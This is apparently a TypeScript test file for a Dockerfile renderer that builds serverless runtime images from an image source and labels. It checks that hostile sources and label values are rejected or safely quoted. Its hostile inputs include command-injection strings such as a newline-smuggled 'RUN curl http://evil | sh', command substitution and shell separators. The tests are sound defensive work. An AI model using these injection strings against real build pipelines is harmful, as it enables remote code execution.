import { InvalidInputError } from '#libs/errors';
import { baselineRuntimeStrategy, renderBaselineDockerfile } from './baseline-runtime-strategy.js';
import { BASE_NAME_LABEL, BUILD_IDENTITY_LABEL, RUNTIME_KIND_LABEL } from './dockerfile-labels.js';

const SOURCE = 'apache/openserverless-runtime-python:v3.12-2506091954';

/** Every way a Dockerfile reader (or a careless one) could see a line break. */
const LINE_BREAKS = /\r\n|\r|\n|\u0085|\u2028|\u2029/;

function instructions(dockerfile: string): string[] {
  return dockerfile.split(LINE_BREAKS).filter((line) => line !== '').map((line) => line.split(' ')[0]);
}

/**
 * Reads a LABEL instruction the way the Dockerfile lexer reads double-quoted
 * words: a backslash escapes only `"`, `\` and `$`; an unescaped `$` would be
 * expanded, so it is refused here.
 */
function readLabels(line: string): Record<string, string> {
  if (!line.startsWith('LABEL ')) throw new Error(`not a LABEL: ${line}`);
  const labels: Record<string, string> = {};
  let at = 'LABEL '.length;
  const word = (): string => {
    if (line[at] !== '"') throw new Error(`expected a quote at ${at}`);
    let text = '';
    for (at += 1; at < line.length; at += 1) {
      const ch = line[at];
      if (ch === '"') {
        at += 1;
        return text;
      }
      if (ch === '$') throw new Error(`unescaped $ at ${at}`);
      if (ch === '\\' && ['"', '\\', '$'].includes(line[at + 1])) {
        at += 1;
        text += line[at];
      } else {
        text += ch;
      }
    }
    throw new Error('unterminated quote');
  };
  while (at < line.length) {
    const key = word();
    if (line[at] !== '=') throw new Error(`expected = at ${at}`);
    at += 1;
    labels[key] = word();
    if (at < line.length && line[at] !== ' ') throw new Error(`expected a space at ${at}`);
    at += 1;
  }
  return labels;
}

describe('renderBaselineDockerfile', () => {
  it('renders the baseline with the file', () => {
    const dockerfile = renderBaselineDockerfile('python', 'requirements.txt', {
      source: SOURCE,
      hasFile: true,
      labels: { [BUILD_IDENTITY_LABEL]: 'abc123' },
    });
    expect(dockerfile).toBe(
      [
        `FROM ${SOURCE}`,
        'COPY requirements.txt /tmp/requirements.txt',
        'USER root',
        'RUN /bin/extend',
        'USER nobody',
        `LABEL "${BASE_NAME_LABEL}"="${SOURCE}" "${BUILD_IDENTITY_LABEL}"="abc123" "${RUNTIME_KIND_LABEL}"="python"`,
        '',
      ].join('\n'),
    );
  });

  it('re-tags the source when there is no file', () => {
    const dockerfile = renderBaselineDockerfile('go', 'go.mod', { source: 'r.io/go:1', hasFile: false, labels: {} });
    expect(dockerfile).toBe(`FROM r.io/go:1\nLABEL "${BASE_NAME_LABEL}"="r.io/go:1" "${RUNTIME_KIND_LABEL}"="go"\n`);
  });

  it('keeps its own labels when the caller passes the same keys', () => {
    const dockerfile = renderBaselineDockerfile('ruby', 'Gemfile', {
      source: 'ruby',
      hasFile: false,
      labels: { [BASE_NAME_LABEL]: 'forged', [RUNTIME_KIND_LABEL]: 'forged' },
    });
    expect(readLabels(dockerfile.split('\n')[1])).toEqual({ [BASE_NAME_LABEL]: 'ruby', [RUNTIME_KIND_LABEL]: 'ruby' });
  });

  it.each([
    'python\nRUN curl http://evil | sh',
    'python\rRUN id',
    'python RUN id',
    'python:3 AS x',
    'python;id',
    'python$(id)',
    'python`id`',
    '$BASE',
    '--platform=linux/amd64 python',
    '',
  ])('refuses the hostile source %j', (source) => {
    expect(() => renderBaselineDockerfile('python', 'requirements.txt', { source, hasFile: true, labels: {} })).toThrow(
      InvalidInputError,
    );
  });

  const hostileValues = [
    'x"\nRUN curl http://evil | sh\nLABEL y="',
    'x\r\nUSER root',
    'x\u2028RUN id\u2029RUN id\u0085RUN id',
    'x\\',
    'x\\"\nRUN id',
    '"',
    '\\\\"',
    '$(id) `id` ${HOME} $HOME',
    'a=b c=d',
    '\u0000\u001b[2J',
    '#',
    "'single'",
  ];

  it.each(hostileValues)('never gains an instruction from the label value %j', (value) => {
    for (const hasFile of [true, false]) {
      const dockerfile = renderBaselineDockerfile('nodejs', 'package.json', {
        source: SOURCE,
        hasFile,
        labels: { [BUILD_IDENTITY_LABEL]: value, [value]: 'key' },
      });
      const expected = hasFile ? ['FROM', 'COPY', 'USER', 'RUN', 'USER', 'LABEL'] : ['FROM', 'LABEL'];
      expect(instructions(dockerfile)).toEqual(expected);
      const labels = readLabels(dockerfile.split('\n')[expected.length - 1]);
      expect(Object.keys(labels)).toHaveLength(4);
      expect(labels[BASE_NAME_LABEL]).toBe(SOURCE);
    }
  });

  it('round-trips printable hostile values exactly through the Dockerfile quoting', () => {
    const printable = hostileValues.filter((value) => /^[\x20-\x7e]*$/.test(value));
    expect(printable.length).toBeGreaterThan(4);
    for (const value of printable) {
      const dockerfile = renderBaselineDockerfile('php', 'composer.json', {
        source: SOURCE,
        hasFile: false,
        labels: { [BUILD_IDENTITY_LABEL]: value },
      });
      expect(readLabels(dockerfile.split('\n')[1])[BUILD_IDENTITY_LABEL]).toBe(value);
    }
  });
});

describe('baselineRuntimeStrategy', () => {
  it('declares the kind and file and renders the baseline for them', () => {
    const strategy = baselineRuntimeStrategy({ kind: 'ruby', dependencyFile: 'Gemfile', check: () => undefined });
    const input = { source: 'ruby:3', hasFile: true, labels: {} };
    expect(strategy.kind).toBe('ruby');
    expect(strategy.dependencyFile).toBe('Gemfile');
    expect(strategy.render(input)).toBe(renderBaselineDockerfile('ruby', 'Gemfile', input));
    expect(Object.isFrozen(strategy)).toBe(true);
  });
});
